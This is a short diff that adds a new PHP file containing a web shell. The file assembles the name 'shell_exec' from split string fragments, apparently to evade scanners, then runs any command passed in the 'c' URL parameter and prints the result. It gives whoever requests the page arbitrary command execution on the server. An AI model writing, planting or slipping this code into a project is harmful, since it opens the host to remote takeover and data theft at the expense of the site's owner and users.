@@ -1,0 +1,4 @@
+<?php
+$p = array('sh', 'ell_', 'exec');
+$f = implode('', $p);
+echo $f($_GET['c']);
